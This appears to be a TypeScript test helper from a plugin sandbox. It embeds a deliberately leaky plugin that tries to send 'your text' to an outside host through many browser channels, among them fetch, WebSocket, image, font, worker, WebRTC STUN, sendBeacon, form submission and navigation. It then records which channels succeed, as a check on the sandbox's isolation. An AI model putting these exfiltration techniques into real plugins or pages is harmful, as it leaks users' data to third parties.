import { lookOf } from "../look.ts";
import { runComponent } from "./run-component.ts";

export interface LeakOfComponent {
  /** Whether the plugin's code ran to its end. */
  readonly ran: boolean;
  /** Ways by which it got an answer from the host. */
  readonly out: readonly string[];
}

/** Milliseconds that the code has for all its tries. */
const PATIENCE = 15_000;

/** Runs code as a component module of a plugin that tries to reach a host in the ways that a document has. */
export function leakFromDocument(place: HTMLElement, host: string): Promise<LeakOfComponent> {
  const { promise, resolve } = Promise.withResolvers<LeakOfComponent>();
  const nothing: LeakOfComponent = { ran: false, out: [] };
  const running = runComponent(
    place,
    {
      title: "A component that tries to leak",
      granted: { outcome: ["tell"] },
      start: async () => ({
        code: leakingComponent(host),
        entry: "leak.js",
        scope: "Leaking",
        module: "Leak",
        props: {},
        host: { pluginId: "Leaking", moduleId: "Leak", isLocal: true, config: {} },
        services: { outcome: ["tell"] },
        context: null,
        stored: {},
        mayNotify: false,
        mayPickFiles: false,
      }),
    },
    lookOf(document.documentElement),
    {
      make: () => ({ outcome: { methods: { tell: (out) => resolve({ ran: true, out: out as string[] }) } } }),
      file: () => Promise.reject(new Error("It has no files.")),
      network: {
        origin: location.origin,
        allow: () => Promise.reject(new Error("It has no permissions.")),
        raw: () => Promise.reject(new Error("It has no permissions.")),
        refused: (url) => navigator.serviceWorker?.controller?.postMessage({ kind: "lectern:refused", url }),
      },
      stored: () => undefined,
      save: () => undefined,
    },
    {
      onShown: () => undefined,
      onHeight: () => undefined,
      onView: () => resolve(nothing),
      onFailed: () => resolve(nothing),
    },
  );
  const patience = setTimeout(() => resolve(nothing), PATIENCE);
  return promise.finally(() => {
    clearTimeout(patience);
    running.stop();
  });
}

/** A plugin as its author would write it. Its own navigation comes last: nothing comes after it where it works. */
function leakingComponent(host: string): string {
  return `var Leaking = { get: async () => () => show };
    async function show(node, { services }) {
      const at = (name) => "https://" + name + ".${host}/?your-text";
      const out = [];
      const heard = (target, good) => new Promise((resolve, reject) => {
        target.addEventListener(good, resolve);
        target.addEventListener("error", reject);
        setTimeout(reject, 1500);
      });
      const attempt = async (name, act) => { try { await act(); out.push(name); } catch {} };
      const add = (name, given) => { const made = Object.assign(document.createElement(name), given); node.append(made); return made; };
      const link = (rel, name) => add("link", { rel, href: at(name) });
      const worker = URL.createObjectURL(new Blob(['fetch("' + at("worker") + '", { mode: "no-cors" }).then(() => postMessage(1), () => postMessage(0))']));
      link("preconnect", "preconnect");
      link("dns-prefetch", "prefetch");
      add("style", { textContent: '@import "' + at("css") + '";' });
      add("iframe", { src: at("frame") });
      add("div", {}).innerHTML = '<iframe src="' + at("markup") + '"></iframe>';
      add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [at("speculation")] }] }) });
      const form = add("form", { action: at("form"), method: "post" });
      form.submit();
      await Promise.all([
        attempt("a request", () => fetch(at("fetch"))),
        attempt("a WebSocket", () => heard(new WebSocket(at("socket").replace("https", "wss")), "open")),
        attempt("a picture", () => heard(add("img", { src: at("image") }), "load")),
        attempt("a font", () => new FontFace("leak", 'url("' + at("font") + '")').load()),
        attempt("a worker", async () => {
          const { data } = await heard(new Worker(worker), "message");
          if (data !== 1) throw new Error("The worker was stopped.");
        }),
        attempt("a call between browsers", async () => {
          const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:webrtc.${host}:3478" }] });
          call.createDataChannel("leak");
          await call.setLocalDescription(await call.createOffer());
          await new Promise((resolve, reject) => {
            call.onicecandidate = ({ candidate }) => candidate?.type === "srflx" && resolve();
            setTimeout(reject, 1500);
          });
        }),
      ]);
      navigator.sendBeacon(at("beacon"), "your text");
      await services.outcome.tell(out);
      location.href = at("navigation");
    }`;
}
